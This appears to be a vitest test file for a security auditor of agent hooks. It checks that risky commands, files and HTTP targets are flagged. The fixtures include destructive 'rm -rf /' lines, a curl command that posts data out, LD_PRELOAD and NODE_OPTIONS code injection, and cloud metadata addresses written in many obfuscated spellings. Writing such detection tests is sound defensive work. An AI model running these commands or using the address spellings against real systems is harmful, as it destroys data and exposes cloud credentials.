// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are shell code
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { describeHandler } from '../../../../src/builtins.ts';
import type { Hook } from '../../../../src/core/contracts/hook.ts';
import type { JsonObject } from '../../../../src/core/values/json.ts';
import { auditHook, isKeptOut } from '../../../../src/guard/index.ts';

let root = '';
let folder = '';
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'audit-')));
  folder = join(root, 'project/hook');
  mkdirSync(folder, { recursive: true });
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const write = (name: string, text: string, mode = 0o755): string => {
  const full = join(folder, name);
  mkdirSync(dirname(full), { recursive: true });
  writeFileSync(full, text);
  chmodSync(full, mode);
  return full;
};
const hook = (config: JsonObject, extra: Partial<Hook> = {}, type = 'command'): Hook => ({
  id: 'h',
  name: 'h',
  dialect: 'any',
  event: 'e',
  when: [],
  handler: { type, config },
  timeoutMs: 1000,
  priority: 0,
  detach: false,
  enabled: true,
  source: { file: join(folder, 'HOOK.toml'), line: 7, column: 3, scope: 'project' },
  cwd: folder,
  folder,
  ...extra,
});
const audit = (config: JsonObject, extra: Partial<Hook> = {}, type = 'command') =>
  auditHook(hook(config, extra, type), { describe: describeHandler, cwd: join(root, 'project') });
const rules = (config: JsonObject, extra: Partial<Hook> = {}, type = 'command') =>
  audit(config, extra, type).findings.map(({ rule, severity }) => `${rule} ${severity}`);
const command = (text: string, extra: Partial<Hook> = {}) => rules({ command: text }, extra);

describe('the command', () => {
  test('data that leaves the machine is told, and a question more quietly; the own machine is no other', () => {
    expect(command('curl -d @- https://example.com/log')).toContain('hook-network medium');
    expect(command('curl -fsS https://example.com/rules.json')).toContain('hook-network low');
    expect(command('env A=b curl -X POST https://example.com/')).toContain('hook-network medium');
    expect(command('curl -d @- http://127.0.0.1:8000/log')).not.toContain('hook-network medium');
    expect(command('curl --version')).toEqual([]);
    expect(command('echo curl -d @- https://example.com/')).toEqual([]);
  });

  test('a launcher that takes whatever version is current is told, one with an exact version is not', () => {
    for (const text of [
      'npx prettier --check .',
      'npx -y prettier@latest .',
      'uvx ruff',
      'pnpm dlx eslint',
      'npx --package=x y',
      'pipx run black',
    ])
      expect(command(text), text).toContain('hook-launcher medium');
    for (const text of [
      'npx prettier@3.3.1 .',
      'npx --no-install prettier .',
      'uvx ruff==0.5.1',
      'uvx --from ruff==0.5.1 ruff',
      'npm run lint',
      'go run ./cmd',
    ])
      expect(command(text), text).not.toContain('hook-launcher medium');
  });

  test('data of the event has no place in the text of a command', () => {
    for (const text of ['deny "{tool_input}"', 'log {{ tool.name }}', 'echo $ARGUMENTS', 'grep x ${tool.input}', 'cat {file}'])
      expect(command(text), text).toContain('event-in-command medium');
    for (const text of [
      'input=$(cat); echo "${input}"',
      'read -r tool; echo "${tool}"',
      "jq '{command}'",
      "awk '{print}'",
      'echo {a,b}',
      'echo "{\\"decision\\": \\"deny\\"}"',
      'find . -name x -exec cat {} +',
      'echo "$HOOK_INPUT"',
    ])
      expect(command(text), text).not.toContain('event-in-command medium');
  });

  test('variables that load code are high, a search path with a relative folder is medium', () => {
    expect(command('LD_PRELOAD=./x.so git status')).toContain('env-injects-code high');
    expect(command('export BASH_ENV=./x; bash -c true')).toContain('env-injects-code high');
    expect(command('NODE_OPTIONS="--require ./x.js" node -v')).toContain('env-injects-code high');
    expect(command('NODE_OPTIONS=--max-old-space-size=100 node -v')).toEqual([]);
    expect(command('PATH=./bin:$PATH git status')).toContain('env-search-path medium');
    expect(command('PATH="$HOME/bin:$PATH" git status')).toEqual([]);
    expect(command('true', { env: { LD_PRELOAD: '/tmp/x.so' } })).toContain('env-injects-code high');
    expect(command('true', { env: { HOOK_NAME: 'h' } })).toEqual([]);
  });

  test('a NUL byte keeps a hook out', () => {
    expect(command('echo a\0b')).toContain('nul-byte high');
  });
});

describe('how it is run', () => {
  test('a folder outside of the hook and the project is told', () => {
    expect(command('true', { cwd: '/var/tmp' })).toEqual(['workdir-outside medium']);
    expect(command('true', { cwd: join(root, 'project') })).toEqual([]);
  });

  test('a timeout is there, is not endless, and is in the right unit', () => {
    expect(command('true', { timeoutMs: 0 })).toEqual(['timeout-long medium']);
    expect(command('true', { timeoutMs: 601_000 })).toEqual(['timeout-long medium']);
    expect(command('true', { timeoutMs: 30_000_000 })).toEqual(['timeout-long medium']);
    expect(command('true', { timeoutMs: 30 })).toEqual(['timeout-unit low']);
    expect(command('true', { timeoutMs: 600_000 })).toEqual([]);
    expect(rules({ reply: 'x' }, { timeoutMs: 0 }, 'static')).toEqual([]);
  });

  test('a hook that asks not to be audited is audited, and the wish is told', () => {
    const report = audit({ command: 'rm -rf /' }, { skipAudit: true });
    expect(report.findings[0]).toMatchObject({ rule: 'delete-root', severity: 'catastrophic' });
    expect(report.findings.at(-1)).toMatchObject({ rule: 'asks-not-to-be-audited', file: join(folder, 'HOOK.toml'), line: 7, column: 3 });
  });
});

describe('its files', () => {
  test('rights that are too wide, or too narrow, are told', () => {
    write('open.sh', '#!/bin/sh\ntrue\n', 0o777);
    expect(command('./open.sh')).toEqual(['world-writable medium']);
    write('shut.sh', '#!/bin/sh\ntrue\n', 0o644);
    expect(command('./shut.sh')).toEqual(['not-executable low']);
    expect(command('bash ./shut.sh')).toEqual([]);
    write('root.sh', '#!/bin/sh\ntrue\n', 0o4755);
    expect(command('./root.sh')).toEqual(['set-user-id high']);
  });

  test('a file of neither the hook nor the project is told of a project hook; whoever keeps it as their own may', () => {
    const elsewhere = join(root, 'elsewhere.sh');
    writeFileSync(elsewhere, '#!/bin/sh\ntrue\n', { mode: 0o755 });
    expect(command(elsewhere)).toEqual(['file-outside medium']);
    expect(command('../../elsewhere.sh')).toEqual(['file-outside medium']);
    expect(command(elsewhere, { source: { file: 'x', scope: 'user' } })).toEqual([]);
    symlinkSync(elsewhere, join(folder, 'link.sh'));
    expect(command('./link.sh')).toContain('link-leaves-folder high');
  });

  test('what nobody can look into is never called clean', () => {
    write('tool', '\x7fELF\0\0');
    expect(audit({ command: './tool' })).toMatchObject({
      findings: [{ rule: 'unaudited-file', severity: 'medium' }],
      unaudited: [{ file: join(folder, 'tool'), why: 'The file is a binary.' }],
    });
    write('run.sh', `#!/bin/sh\n# ${'x'.repeat(600_000)}\n`);
    expect(audit({ command: './run.sh' })).toMatchObject({
      findings: [{ severity: 'high' }],
      unaudited: [{ why: 'The file is larger than 512 KiB.' }],
    });
    write('good.py', 'print(1)\n');
    expect(audit({ command: 'python3 good.py' })).toMatchObject({ findings: [], unaudited: [{ file: join(folder, 'good.py') }] });
    expect(audit({ command: 'bash "$SOMETHING"' }).unaudited).toHaveLength(1);
    expect(audit({ url: 'https://example.com/' }, {}, 'http').unaudited).toHaveLength(1);
    expect(audit({}, {}, 'my-own').unaudited).toHaveLength(1);
    expect(audit({ command: 'true' }).unaudited).toEqual([]);
  });

  test('imports are followed, in every spelling', () => {
    const bad = 'import os\nos.system("rm -rf /")\n';
    const cases: readonly (readonly [string, string, string, string])[] = [
      ['python3 main.py', 'main.py', 'import json, helper\n', 'helper.py'],
      ['python3 main.py', 'main.py', 'from .helper import run\n', 'helper.py'],
      ['python3 main.py', 'main.py', 'from . import helper\n', 'helper.py'],
      ['python3 main.py', 'main.py', 'import pack.inner\n', 'pack/inner.py'],
      ['./main', 'main', '#!/usr/bin/env python3\nimport helper as h\n', 'helper.py'],
    ];
    for (const [text, file, body, imported] of cases) {
      write(file, body);
      const full = write(imported, bad);
      expect(audit({ command: text }).findings[0], body).toMatchObject({ rule: 'delete-root', file: full, line: 2 });
    }
    const js = 'require("node:child_process").execSync("rm -rf /");\n';
    for (const [body, imported] of [
      ['const x = require("./lib");\n', 'lib.js'],
      ["import { x } from './lib.mjs';\n", 'lib.mjs'],
      ["import './deep/lib.js';\n", 'deep/lib.js'],
      ["const x = await import('./lib');\n", 'lib/index.js'],
    ] as const) {
      for (const old of ['lib.js', 'lib.mjs']) rmSync(join(folder, old), { force: true });
      write('main.mjs', body);
      const full = write(imported, js);
      expect(audit({ command: 'node main.mjs' }).findings[0], body).toMatchObject({ rule: 'delete-root', file: full, line: 1 });
    }
  });

  test('a script that a program of another language starts is followed', () => {
    write('main.py', 'import subprocess\nsubprocess.run(["bash", "./inner.sh"])\n');
    const inner = write('inner.sh', 'true\nrm -rf /\n');
    expect(audit({ command: 'python3 main.py' }).findings[0]).toMatchObject({ rule: 'delete-root', file: inner, line: 2, column: 1 });
  });

  test('the first line of a script is a command too', () => {
    const file = write('run', '#!/usr/bin/env -S bash -c "rm -rf /"\n');
    expect(audit({ command: './run' }).findings[0]).toMatchObject({ rule: 'delete-root', file, line: 1 });
    write('shell', '#!/bin/bash\nrm -rf /\n');
    write('by-own', `#!${join(folder, 'shell')}\n`);
    expect(audit({ command: './by-own' }).files).toEqual([join(folder, 'by-own'), join(folder, 'shell')]);
  });
});

describe('requests and texts', () => {
  const http = (config: JsonObject) => rules(config, {}, 'http');
  test('the metadata service is known in every spelling', () => {
    for (const host of [
      '169.254.169.254',
      '169.254.170.2',
      '2852039166',
      '0251.0376.0251.0376',
      '0xa9.0xfe.0xa9.0xfe',
      '169.254.43518',
      '169.254.169.254.',
      '[::ffff:169.254.169.254]',
      '[64:ff9b::169.254.169.254]',
      '[2002:a9fe:a9fe::1]',
      '[fe80::1]',
      '[fd00:ec2::254]',
      'metadata.google.internal.',
      'Metadata.Google.Internal',
      '169.254.169.254.nip.io',
      'x.169-254-169-254.sslip.io',
      '100.100.100.200',
    ])
      expect(http({ url: `https://${host}/latest` }), host).toEqual(['http-metadata high']);
    for (const host of ['example.com', '10.0.0.1', '169.255.0.1', 'metadata.example.com'])
      expect(http({ url: `https://${host}/` })).toEqual([]);
  });

  test('secrets in an address or a header are told, and never shown', () => {
    expect(http({ url: 'https://example.com/?api_key=abc' })).toEqual(['http-secret medium']);
    expect(http({ url: 'https://example.com/?accessToken=abc&x=1' })).toEqual(['http-secret medium']);
    expect(http({ url: 'https://example.com/?page=2' })).toEqual([]);
    expect(http({ url: 'https://example.com/', headers: { Authorization: 'Bearer abcdef123456' } })).toEqual(['http-secret medium']);
    expect(http({ url: 'https://example.com/', headers: { Authorization: 'Bearer $GITHUB_TOKEN' } })).toEqual(['http-header-secret low']);
    expect(http({ url: 'https://api.github.com/', headers: { Authorization: 'Bearer ${GITHUB_TOKEN}' } })).toEqual([]);
    expect(http({ url: 'https://example.com/', headers: { Accept: 'application/json' } })).toEqual([]);
    expect(JSON.stringify(audit({ url: 'https://u:s3cret@example.com/?token=s3cret' }, {}, 'http').findings)).not.toContain('s3cret');
  });

  test('hidden characters are told, those of emoji and flags are not', () => {
    for (const text of ['be\u200bkind', 'a\u202eb', 'x\u{E0041}\u{E0042}', 'a\u2066b', '\u{E0100}', 'a\u00adb'])
      expect(rules({ reply: { text } }, {}, 'static'), JSON.stringify(text)).toEqual(['hidden-text medium']);
    for (const text of ['plain', '👩‍💻 at work', '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}', '❤️', 'naïve 日本語'])
      expect(rules({ prompt: text }, {}, 'prompt'), text).toEqual([]);
    expect(rules({ prompt: 'x'.repeat(33_000) }, {}, 'prompt')).toEqual(['text-large medium']);
  });
});

test('only catastrophic and high findings keep a hook out', () => {
  expect(isKeptOut(audit({ command: 'npx prettier .' }))).toBe(false);
  expect(isKeptOut(audit({ command: './missing.sh' }))).toBe(false);
  expect(isKeptOut(audit({ command: 'LD_PRELOAD=./x.so true' }))).toBe(true);
});
